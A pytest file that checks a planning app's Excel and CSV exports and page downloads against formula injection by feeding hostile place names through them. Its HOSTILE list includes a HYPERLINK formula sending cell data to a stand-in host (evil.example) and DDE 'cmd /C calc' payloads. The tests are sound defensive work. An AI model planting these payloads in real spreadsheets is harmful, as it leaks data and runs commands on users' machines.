"""Names that a spreadsheet would run as formulas stay text in all that people open with one."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from io import BytesIO, StringIO
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from playwright.sync_api import expect

from allocation.pages.tables import as_csv, as_xlsx
from allocation.plan import solve_plan
from basins.dataset import load_dataset
from tests.basins.dataset_folder import columns
from tests.pages.conftest import Opened, open_page, saved, served
from tests.pages.small_province import write_province

HOSTILE = (
    '=HYPERLINK("http://evil.example?"&A1,"甲")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=1+1}",
    "＝1+1",
    "http://evil.example",
)
NAMED = {"counties": 2, "cities": 1, "rivers": 2, "sectors": 2, "sources": 1, "red_lines": 2}


def hostile_province(root: Path) -> Path:
    """The small province with a hostile name for everything that has one."""
    write_province(root)
    for table in NAMED:
        columns(table, _named)(root)
    return root


def _named(table: pd.DataFrame) -> pd.DataFrame:
    names = [f"{HOSTILE[row % len(HOSTILE)]} {row}" for row in range(len(table))]
    return table.assign(name_zh=names, name_en=names)


@pytest.fixture(scope="module")
def province(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hostile_province(tmp_path_factory.mktemp("hostile") / "data")


def test_the_workbook_of_a_plan_holds_no_formula(province: Path, tmp_path: Path) -> None:
    scenario = tmp_path / "s.toml"
    scenario.write_text("name = '''" + HOSTILE[0] + "'''\n[limits]\nPLAN-CAP = 84\n", "utf-8")
    plan = solve_plan(load_dataset(province), scenario=scenario)
    plan.write(tmp_path / "plan")
    book = openpyxl.load_workbook(tmp_path / "plan" / "plan.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    texts = {str(cell.value) for cell in cells if cell.data_type == "s"}
    assert HOSTILE[0] in texts and f"{HOSTILE[1]} 1" in texts
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    # The tables of a plan folder are for programs: values stay what they are.
    lines = pd.read_csv(tmp_path / "plan" / "red_lines.csv")
    assert f"{HOSTILE[0]} 0" in set(lines["name_zh"])


TABLE = pd.DataFrame({"=1+1": [*HOSTILE, "甲", "-5", "\t=1", None], "数": range(-5, 6)})


def test_a_downloaded_workbook_holds_no_formula() -> None:
    sheet = openpyxl.load_workbook(BytesIO(as_xlsx(TABLE))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert not any(cell.hyperlink for cell in cells)
    assert [row[0].value for row in sheet.iter_rows(min_row=2)][: len(HOSTILE)] == list(HOSTILE)


def test_a_downloaded_csv_marks_what_would_be_a_formula() -> None:
    head, *rows = csv.reader(StringIO(as_csv(TABLE).decode("utf-8-sig"), newline=""))
    assert head == ["'=1+1", "数"]
    marked = [*(f"'{text}" for text in (*HOSTILE[:4], HOSTILE[5])), "'\t=1"]
    assert [text for text, _ in rows if text.startswith("'")] == marked
    # Numbers, harmless text and what is missing stay as they are.
    assert [text for text, _ in rows if not text.startswith("'")] == [
        *(HOSTILE[4], HOSTILE[6]),
        *("甲", "-5", ""),
    ]
    assert [int(number) for _, number in rows] == list(range(-5, 6))


@pytest.fixture(scope="module")
def hostile_app(province: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with served(tmp_path_factory.mktemp("hostile-app"), SHUIDING_DATA=str(province)) as url:
        yield url


def test_the_pages_show_and_save_hostile_names_as_text(
    opened: Opened, hostile_app: str, tmp_path: Path
) -> None:
    page = opened(hostile_app)
    open_page(page, "红线账本")
    grid = page.get_by_test_id("stDataFrame").first
    grid.hover()
    expect(page.get_by_role("button", name=re.compile("Search|查找"))).not_to_have_count(0)
    expect(page.get_by_role("button", name="Download as CSV")).to_have_count(0)
    book = saved(page.get_by_role("button", name="下载 Excel"), tmp_path)
    sheet = openpyxl.load_workbook(book).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert f"{HOSTILE[0]} 0" in {cell.value for cell in cells}
    assert not any(cell.data_type == "f" for cell in cells)
    text = saved(page.get_by_role("button", name="下载 CSV"), tmp_path).read_text("utf-8-sig")
    rows = csv.reader(StringIO(text, newline=""))
    values = {value for row in rows for value in row}
    assert f"'{HOSTILE[0]} 0" in values
    assert not any(value.startswith(("=", "@")) for value in values)
